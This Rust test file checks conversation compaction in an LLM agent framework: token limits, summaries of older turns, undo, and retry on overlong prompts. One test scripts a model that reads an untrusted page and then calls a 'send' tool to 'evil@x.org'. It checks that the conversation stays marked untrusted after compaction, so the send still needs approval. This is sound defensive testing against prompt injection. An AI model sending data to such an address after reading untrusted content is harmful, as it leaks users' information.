//! Compaction: a conversation stays within `max_context_tokens`.
//!
//! The world checks for each request of each test that it follows from the records before it, and that calls and results
//! stay in pairs.

use crate::world::{Ran, Script, World, calls, rule, text, tool, worker, worker_with_tools};
use llm_do_core::{
    conversation::Compaction,
    function::{Function, Risk},
    gate::{Mode, Policy, Rule},
    journal::RecordKind,
    model::{ModelError, ModelErrorKind, Purpose, Terms},
    origin::{Origin, ResultOrigin},
    outcome::FailureKind,
    question::Answer,
    worker::WorkerDefinition,
};
use serde_json::{Value, json};
use std::sync::Arc;

/// Long enough for some of these to fill the context of the tests.
fn long(word: &str) -> String {
    format!("{word} ").repeat(4_000 / (word.len() + 1))
}

/// A tool with long results.
fn look() -> Function {
    tool("look", Risk::Read, |input| Ok(json!(long(input["at"].as_str().unwrap()))))
}

fn looks(at: &str) -> Result<llm_do_core::model::ModelResponse, ModelError> {
    calls([("look", json!({"at": at}))])
}

/// A worker with this limit that can read its results again.
fn limited(tokens: u64) -> WorkerDefinition {
    let mut main = worker_with_tools("main");
    main.toolsets.push(("filesystem".into(), Arc::new(json!({}))));
    main.limits.max_context_tokens = Some(tokens);
    main
}

fn says(words: &str) -> Answer {
    Answer::Give { value: Arc::new(json!(words)) }
}

fn compact() -> Answer {
    Answer::Compact { keep: None }
}

fn chat(main: WorkerDefinition, script: Script) -> World {
    let mut world = World::new().tool(look()).worker(main, script);
    world.chat = true;
    world
}

fn compactions(ran: &Ran) -> Vec<&Compaction> {
    let records = ran.records.iter();
    records
        .filter_map(|record| match &record.body {
            RecordKind::Compacted(compaction) => Some(compaction),
            _ => None,
        })
        .collect()
}

/// The last request for an answer, as text.
fn last_sent(ran: &Ran) -> String {
    let last = ran.seen.iter().rfind(|seen| seen.purpose == Purpose::Answer).unwrap();
    serde_json::to_string(&last.messages).unwrap()
}

#[test]
fn old_results_go_first_and_can_be_read_again() {
    let script = vec![
        looks("a"),
        looks("b"),
        looks("c"),
        looks("d"),
        calls([("read_file", json!({"path": "/results/1", "max_chars": 30}))]),
        text("done"),
    ];
    let ran = World::new().tool(look()).worker(limited(7_000), script).run(json!({"input": "Look."}));
    let [compaction] = compactions(&ran)[..] else { panic!("{:?}", compactions(&ran)) };
    assert!(compaction.summary.is_none() && compaction.failure.is_none());
    let numbers: Vec<_> = compaction.results.iter().map(|result| result.number).collect();
    assert_eq!(numbers, (1..=numbers.len()).map(Some).collect::<Vec<_>>());
    assert!(compaction.after < compaction.before, "{compaction:?}");
    assert!(compaction.after <= 7_000 * 61 / 100, "{compaction:?}");
    let (read, failed) = ran.results()[0].clone();
    assert!(read.starts_with("a a a a") && !failed, "{read}");
    let sent = last_sent(&ran);
    assert!(sent.contains("read_file(path=\\\"/results/1\\\")"), "{sent}");
    assert!(sent.contains("d d d d"), "the results of the last turn stay");
}

#[test]
fn without_a_tool_that_reads_results_the_line_says_to_call_again() {
    let mut main = limited(6_000);
    main.toolsets.pop();
    let script = vec![looks("a"), looks("b"), looks("c"), looks("d"), text("done")];
    let ran = World::new().tool(look()).worker(main, script).run(json!({"input": "Look."}));
    assert_eq!(compactions(&ran)[0].results[0].number, None);
    assert!(last_sent(&ran).contains("Make the call again if you need it."));
}

#[test]
fn a_worker_without_a_known_limit_is_never_compacted() {
    let script = (0..20).map(|at| looks(&format!("p{at}"))).chain([text("done")]).collect();
    let mut main = limited(1);
    main.limits.max_context_tokens = None;
    let ran = World::new().tool(look()).worker(main, script).run(json!({"input": "Look."}));
    assert!(compactions(&ran).is_empty());
}

#[test]
fn the_models_window_is_the_default() {
    let script = vec![looks("a"), looks("b"), looks("c"), looks("d"), text("done")];
    let mut main = limited(1);
    main.limits.max_context_tokens = None;
    let mut world = World::new().tool(look()).worker(main, script);
    world.terms = Terms { context: Some(7_000), ..Terms::default() };
    let ran = world.run(json!({"input": "Look."}));
    assert_eq!(compactions(&ran).len(), 1);
}

/// A chat whose user and model say long things.
fn long_chat(limit: u64, summary: Result<llm_do_core::model::ModelResponse, ModelError>) -> World {
    let answer = |word: &str| text(&long(word));
    let script = vec![answer("one"), answer("two"), answer("three"), summary, answer("four"), text("five")];
    chat(limited(limit), script)
}

#[test]
fn older_turns_are_summarised_and_the_users_words_stay() {
    let ran = long_chat(5_200, text("They counted."))
        .asking([
            says("second message"),
            says("third message"),
            says("fourth message"),
            says("fifth"),
            Answer::End,
        ])
        .run(json!({"input": "first message"}));
    let [compaction] = compactions(&ran)[..] else { panic!("{:?}", compactions(&ran)) };
    let summary = compaction.summary.as_ref().expect("there are no results to leave out");
    assert_eq!(&*summary.text, "They counted.");
    let asked = ran.seen.iter().find(|seen| seen.purpose == Purpose::Summary).unwrap();
    let text = asked.messages[0].text();
    assert!(text.contains("User: second message") && text.contains("Assistant: one one"), "{text}");
    assert!(asked.tools.is_empty());
    let sent = last_sent(&ran);
    for kept in ["first message", "second message", "third message", "fourth message", "They counted."] {
        assert!(sent.contains(kept), "{kept}: {sent}");
    }
    assert!(!sent.contains("one one"), "{sent}");
}

#[test]
fn a_summary_that_fails_is_not_asked_for_again_in_the_same_answer() {
    let broken = Err(ModelError::new(ModelErrorKind::BadRequest, "no summaries today"));
    let script = vec![text(&long("one")), text(&long("two")), looks("a"), looks("b"), text("done")];
    let mut world = chat(limited(6_000), script);
    world.summaries = Some(broken);
    let ran =
        world.asking([says("second"), says(&long("third")), Answer::End]).run(json!({"input": "first"}));
    let failed: Vec<&Compaction> =
        compactions(&ran).into_iter().filter(|compaction| compaction.failure.is_some()).collect();
    let [failed] = failed[..] else { panic!("{:?}", compactions(&ran)) };
    assert_eq!(failed.failure.as_deref(), Some("no summaries today"));
    let summaries = ran.seen.iter().filter(|seen| seen.purpose == Purpose::Summary);
    assert_eq!(summaries.count(), 1);
}

#[test]
fn what_can_not_fit_fails_before_it_is_sent() {
    let ran = World::new().worker(limited(1_000), vec![]).run(json!({"input": long("word")}));
    let failure = ran.failure();
    assert_eq!(failure.kind, FailureKind::Limit);
    assert!(failure.message.contains("`max_context_tokens` is 1000"), "{}", failure.message);
    assert!(ran.seen.is_empty());
}

#[test]
fn the_user_compacts_and_takes_it_back() {
    let script =
        vec![text(&long("one")), text(&long("two")), text("A short story."), text("three"), text("four")];
    let keep = || Answer::Compact { keep: Some("the number of words".into()) };
    let ran = chat(worker("main"), script)
        .asking([says("second"), keep(), Answer::UndoCompaction, says("third"), Answer::End])
        .run(json!({"input": "first"}));
    let asked = ran.seen.iter().find(|seen| seen.purpose == Purpose::Summary).unwrap();
    assert!(asked.messages[0].text().ends_with("The user asks you to keep: the number of words"));
    assert_eq!(compactions(&ran).len(), 1);
    let sent = last_sent(&ran);
    assert!(sent.contains("one one") && !sent.contains("A short story."), "{sent}");
}

#[test]
fn what_can_not_be_done_is_said_and_the_chat_goes_on() {
    let ran = chat(worker("main"), vec![text("one")])
        .asking([compact(), Answer::UndoCompaction, Answer::End])
        .run(json!({"input": "first"}));
    assert_eq!(ran.output(), &json!("one"), "a compaction that fails is no failed answer");
    let said: Vec<String> = ran
        .records
        .iter()
        .filter_map(|record| match &record.body {
            RecordKind::Asked(llm_do_core::question::Question::Input(input)) => {
                input.conversation.as_ref()?.failure.as_ref().map(|failure| failure.message.clone())
            }
            _ => None,
        })
        .collect();
    assert_eq!(said, ["there is nothing older to compact yet", "there is no compaction to take back"]);
}

#[test]
fn an_undone_message_keeps_the_compaction_of_what_was_before_it() {
    let script =
        vec![text(&long("one")), text(&long("two")), text("They counted."), text("three"), text("four")];
    let ran = chat(worker("main"), script)
        .asking([
            says("second"),
            compact(),
            says("third"),
            Answer::Undo { message: 3 },
            says("other"),
            Answer::End,
        ])
        .run(json!({"input": "first"}));
    let sent = last_sent(&ran);
    assert!(sent.contains("They counted.") && sent.contains("other") && !sent.contains("third"), "{sent}");
    assert!(sent.contains("two two"), "the last turn stays");
}

#[test]
fn an_undone_message_takes_the_compaction_with_it_that_replaced_it() {
    let script = vec![
        text(&long("one")),
        text(&long("two")),
        text(&long("three")),
        text("They counted."),
        text("four"),
    ];
    let ran = chat(worker("main"), script)
        .asking([
            says("second"),
            says("third"),
            compact(),
            Answer::Undo { message: 1 },
            says("other"),
            Answer::End,
        ])
        .run(json!({"input": "first"}));
    let sent = last_sent(&ran);
    assert!(sent.contains("one one") && sent.contains("other"), "{sent}");
    assert!(!sent.contains("They counted.") && !sent.contains("second"), "{sent}");
}

#[test]
fn a_long_chat_is_compacted_again_and_again() {
    let mut script: Script = Vec::new();
    let turns = 40;
    for at in 0..turns {
        script.push(looks(&format!("p{at}")));
        script.push(text(&long("said")));
    }
    let mut main = limited(20_000);
    main.limits.max_turns = Some(1_000);
    let mut world = chat(main, script);
    world.summaries = Some(text("What was so far."));
    let messages = (1..turns).map(|at| says(&format!("message number {at}")));
    let ran = world.asking(messages.chain([Answer::End])).run(json!({"input": "begin"}));
    let all = compactions(&ran);
    assert!(all.len() >= 3, "{}", all.len());
    assert!(all.len() <= turns / 3, "each frees room for several turns: {}", all.len());
    assert!(all.iter().all(|compaction| compaction.after <= 20_000 * 65 / 100), "{all:?}");
    assert!(last_sent(&ran).contains("message number 35"), "the user's words stay as long as they fit");
}

#[test]
fn a_compacted_conversation_stays_tainted() {
    let mut fetch = tool("fetch", Risk::Read, |_| Ok(json!(long("page"))));
    fetch.meta.results = ResultOrigin::Untrusted;
    let mut send = tool("send", Risk::Exec, |_| Ok(json!("sent")));
    send.meta.contained = true;
    let script = vec![
        calls([("fetch", json!({}))]),
        text("It is a page."),
        text("A page was read."),
        calls([("send", json!({"to": "evil@x.org"}))]),
        text("done"),
    ];
    let mut world = World::new().tool(fetch).tool(send).worker(worker_with_tools("main"), script);
    world.chat = true;
    world.gate.project = Policy { lines: vec![rule("send", Rule::PreApproved)], ..Policy::default() };
    let deny = Answer::Deny { reason: None, remember: false };
    let mut world = world.asking([compact(), says("go on"), deny, Answer::End]);
    world.gate.mode = Mode::Interactive;
    let ran = world.run(json!({"input": "Read it."}));
    assert_eq!(compactions(&ran)[0].origin, Origin::Untrusted);
    assert!(!last_sent(&ran).contains("page page"));
    assert_eq!(ran.asks.len(), 1, "the pre-approved call is asked about");
}

#[test]
fn a_summary_counts_in_the_budget_and_not_as_a_turn() {
    let script = vec![text(&long("one")), text(&long("two")), text("never said")];
    let mut main = worker("main");
    main.limits.max_tokens = Some(10_000);
    let ran =
        chat(main, script).asking([says("second"), compact(), Answer::End]).run(json!({"input": "first"}));
    let reserved = ran.records.iter().any(|record| record.step.to_string() == "summary.0.0.reserve");
    assert!(reserved);
    let value: Value = serde_json::to_value(compactions(&ran)[0]).unwrap();
    assert!(value["summary"].is_object() || value["failure"].is_string());
}

#[test]
fn a_request_that_the_provider_finds_too_long_is_compacted_and_sent_once_more() {
    let too_long = || Err(ModelError::new(ModelErrorKind::ContextExceeded, "prompt is too long"));
    let mut main = limited(1);
    main.limits.max_context_tokens = None;
    let script = vec![looks("a"), looks("b"), looks("c"), looks("d"), too_long(), text("done")];
    let ran = World::new().tool(look()).worker(main.clone(), script).run(json!({"input": "Look."}));
    assert_eq!(ran.output(), &json!("done"));
    let [compaction] = compactions(&ran)[..] else { panic!("{:?}", compactions(&ran)) };
    assert!(!compaction.results.is_empty() && compaction.after < compaction.before, "{compaction:?}");
    assert!(ran.records.iter().any(|record| record.step.to_string() == "model.4.1"));
    // Only once.
    let script = vec![looks("a"), looks("b"), looks("c"), looks("d"), too_long(), too_long()];
    let ran = World::new().tool(look()).worker(main.clone(), script).run(json!({"input": "Look."}));
    assert_eq!(ran.failure().kind, FailureKind::Model);
    assert_eq!(compactions(&ran).len(), 1);
    // And not where nothing older is left.
    let ran = World::new().worker(main, vec![too_long()]).run(json!({"input": "Look."}));
    assert!(ran.failure().message.contains("prompt is too long"), "{:?}", ran.failure());
    assert!(compactions(&ran).is_empty());
}
